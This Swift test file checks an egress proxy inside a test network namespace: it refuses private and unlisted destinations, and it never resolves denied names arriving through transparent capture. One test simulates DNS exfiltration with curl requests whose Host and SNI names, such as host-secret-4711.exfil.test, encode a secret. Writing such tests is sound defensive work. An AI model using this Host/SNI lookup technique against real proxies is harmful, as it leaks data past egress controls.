import Foundation
import Testing

@testable import TestSupport

/// The egress policy on private networks, in a network namespace of the test's own
/// (Tests/Fixtures/netns_run.py; docs/egress.md): destinations on private-range addresses that exist
/// only inside the namespace, names from a bind-mounted /etc/hosts, a sandboxed client run as uid
/// 65534, through the forward listener and through transparent capture (an nftables REDIRECT of its
/// port 80). Each origin records what reached it: a denied destination's list stays empty.
@Suite("Egress: private networks and transparent capture, in a network namespace")
struct EgressNamespaceTests {
    static let clientUID = 65534

    /// A scratch directory the client (another uid) may enter, holding `config.yaml`: the forward
    /// listener on 127.0.0.1:18080, the transparent one on 127.0.0.1:15001, `clients` as given
    /// (`CLIENT_UID` replaced), `extra` top-level sections, and the JSON access log.
    static func setUp(clients: String, extra: String = "") throws -> ScratchDirectory {
        let scratch = ScratchDirectory()
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: scratch.path)
        scratch.write(
            "config.yaml",
            """
            listen: "127.0.0.1:18080"
            transparent: { listen: "127.0.0.1:15001" }
            clients:
            \(clients.replacingOccurrences(of: "CLIENT_UID", with: String(clientUID)))
            \(extra)
            log: { format: json, output: \(scratch.path)/access.log }
            """)
        return scratch
    }

    /// curl as the sandboxed user, no proxy variable; its output ends with the status code.
    static func curl(_ name: String, _ arguments: [String]) -> [String: Any] {
        ["name": name, "argv": ["curl", "-sS", "-m", "20", "-w", "\n%{http_code}"] + arguments, "uid": clientUID, "timeout": 30]
    }

    /// The nftables REDIRECT of the sandboxed user's `ports` to the transparent listener.
    static func redirect(ports: String) -> String {
        """
        table ip nat {
          chain output {
            type nat hook output priority -100; policy accept;
            meta skuid \(clientUID) tcp dport \(ports) redirect to :15001
          }
        }

        """
    }

    /// The proxy as the namespace's background process, on the scratch directory's config.
    static func proxy(_ scratch: ScratchDirectory) -> [[String: Any]] {
        [
            [
                "name": "proxy", "argv": [ProxyProcess.binaryPath, "run", "--config", scratch.path + "/config.yaml"],
                "env": ["HOME": scratch.path], "ready": "listening on",
            ]
        ]
    }

    /// Runs the spec; nil (said on stdout) when the namespace cannot be made here.
    static func run(_ spec: [String: Any], in scratch: ScratchDirectory) throws -> NetnsRun.Report? {
        switch try NetnsRun.run(spec, in: scratch.path) {
        case .skipped(let reason):
            print("EgressNamespaceTests skipped: \(reason)")
            return nil
        case .ran(let report):
            #expect(report.error == nil, "\(report.error ?? "")\n\(report.background["proxy"] ?? "")")
            return report
        }
    }

    @Test(
        "deny_ips: private refuses a name that resolves to a private address even where its name is allowed, forward and captured; default deny refuses an unlisted address; the allowed public address is reached"
    )
    func privateRangesForwardAndCaptured() throws {
        let scratch = try Self.setUp(
            clients: """
                  - name: agent
                    uid: CLIENT_UID
                    egress: { default: deny, allow: ["http://public.test", "http://internal.test"] }
                  - name: anonymous
                """, extra: "egress: { deny_ips: [link_local, metadata, private] }")
        let curl = Self.curl
        let spec: [String: Any] = [
            "addresses": ["10.77.0.1/32", "198.51.100.7/32", "100.64.0.9/32"],
            "hosts": ["internal.test": "10.77.0.1", "public.test": "198.51.100.7"],
            "nft": Self.redirect(ports: "80"),
            "origins": [
                ["name": "internal", "listen": "10.77.0.1:80"], ["name": "public", "listen": "198.51.100.7:80"],
                ["name": "cgnat", "listen": "100.64.0.9:80"],
            ],
            "background": Self.proxy(scratch),
            "commands": [
                curl("forward-public", ["-x", "http://127.0.0.1:18080", "http://public.test/forward"]),
                curl("forward-internal", ["-x", "http://127.0.0.1:18080", "http://internal.test/forward"]),
                curl("forward-cgnat", ["-x", "http://127.0.0.1:18080", "http://100.64.0.9/forward"]),
                curl("captured-public", ["http://public.test/captured"]),
                curl("captured-internal", ["http://internal.test/captured"]),
                curl("captured-cgnat", ["http://100.64.0.9/captured"]),
            ],
        ]
        guard let report = try Self.run(spec, in: scratch) else { return }

        // The canaries: nothing at all reached the private or unlisted destinations.
        #expect(report.origins["internal"]?.isEmpty ?? true, "\(report.origins["internal"] ?? [])")
        #expect(report.origins["cgnat"]?.isEmpty ?? true, "\(report.origins["cgnat"] ?? [])")
        #expect(Set(report.origins["public"]?.map(\.path) ?? []) == ["/forward", "/captured"])

        for name in ["forward-public", "captured-public"] {
            #expect(report.command(name)?.stdout.hasSuffix("\n200") == true, "\(name): \(report.command(name)?.stderr ?? "")")
        }
        for name in ["forward-internal", "captured-internal"] {
            let out = report.command(name)?.stdout ?? ""
            #expect(out.hasSuffix("\n403") && out.contains("\"error\":\"egress_denied\""), "\(name): \(out)")
            #expect(out.contains("\"rule\":\"deny_ips: private\"") && out.contains("\"client\":\"agent\""), "\(name): \(out)")
            // The name's address is the proxy's to know: the client learns the rule, not 10.77.0.1.
            #expect(!out.contains("10.77.0.1"), "\(name): \(out)")
        }
        for name in ["forward-cgnat", "captured-cgnat"] {
            let out = report.command(name)?.stdout ?? ""
            #expect(out.hasSuffix("\n403") && out.contains("\"rule\":\"default deny\""), "\(name): \(out)")
            #expect(out.contains("add \\\"http://100.64.0.9\\\" to egress.allow of client 'agent'"), "\(name): \(out)")
        }

        // The log names the address the name resolved to, and the rule.
        let text = (try? String(contentsOfFile: scratch.path + "/access.log", encoding: .utf8)) ?? ""
        let lines = text.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        let toInternal = lines.filter { ($0["url"] as? String)?.hasPrefix("http://internal.test:80/") == true }
        #expect(toInternal.count == 2, "\(text)")
        for line in toInternal {
            let egress = line["egress"] as? [String: Any]
            #expect(egress?["rule"] as? String == "deny_ips: private" && egress?["address"] as? String == "10.77.0.1", "\(line)")
            #expect(line["client_id"] as? String == "agent")
        }
        #expect(lines.contains { ($0["url"] as? String) == "http://public.test:80/captured" && $0["upstream"] as? String == "198.51.100.7:80" })
    }

    @Test(
        "a name the client's egress rules deny is never looked up from the transparent listener (Host or SNI): a sandboxed client cannot send data out through the proxy's resolver, nor learn where the name points; an allowed name still is"
    )
    func capturedNameDeniedIsNotLookedUp() throws {
        // The global rules allow everything (the anonymous client's); the sandboxed client's do not.
        let scratch = try Self.setUp(
            clients: """
                  - name: agent
                    uid: CLIENT_UID
                    egress: { default: deny, allow: ["http://public.test"] }
                  - name: anonymous
                """, extra: "tls: { tunnel: allow }")
        let curl = Self.curl
        // The client never resolves a name itself (an address in the URL, or --resolve): every query
        // the DNS server sees was sent by the proxy. The exfiltrating names resolve to the very
        // address the client connects to, so the name rule alone would have let them count.
        let spec: [String: Any] = [
            "addresses": ["198.51.100.7/32", "10.77.0.53/32"],
            "resolv_conf": "nameserver 10.77.0.53\n",
            "dns": [
                [
                    "listen": "10.77.0.53:53",
                    "answers": [
                        "public.test": ["198.51.100.7"], "host-secret-4711.exfil.test": ["198.51.100.7"],
                        "sni-secret-4712.exfil.test": ["198.51.100.7"],
                    ],
                ]
            ],
            "nft": Self.redirect(ports: "{ 80, 443 }"),
            "origins": [["name": "public", "listen": "198.51.100.7:80"]],
            "background": Self.proxy(scratch),
            "commands": [
                curl("allowed-name", ["-H", "Host: public.test", "http://198.51.100.7/allowed"]),
                curl("denied-host", ["-H", "Host: host-secret-4711.exfil.test", "http://198.51.100.7/denied"]),
                curl("denied-sni", ["-k", "--resolve", "sni-secret-4712.exfil.test:443:198.51.100.7", "https://sni-secret-4712.exfil.test/"]),
            ],
        ]
        guard let report = try Self.run(spec, in: scratch) else { return }
        let asked = Set(report.dnsQueries.map { $0.lowercased() })
        // The control: the proxy does resolve a name the client may reach (the server sees it).
        #expect(asked.contains("public.test"), "\(asked)")
        #expect(report.command("allowed-name")?.stdout.hasSuffix("\n200") == true, "\(report.command("allowed-name")?.stderr ?? "")")
        // The attack: neither denied name left the proxy, in any form.
        #expect(!asked.contains { $0.contains("exfil") || $0.contains("secret-47") }, "\(asked)")
        let denied = report.command("denied-host")?.stdout ?? ""
        #expect(denied.hasSuffix("\n403") && denied.contains("\"error\":\"egress_denied\""), "\(denied)")
        // Nor an oracle: the refusal names the address the client chose, never whether the denied
        // name resolves there (with a lookup, a name resolving to the destination became the origin).
        #expect(!denied.contains("exfil") && denied.contains("http://198.51.100.7"), "\(denied)")
        #expect(report.origins["public"]?.map(\.path) == ["/allowed"], "\(report.origins["public"] ?? [])")
        // A TLS client that was refused is closed: curl reports a failed handshake, never a response.
        #expect(report.command("denied-sni")?.rc != 0)
    }
}
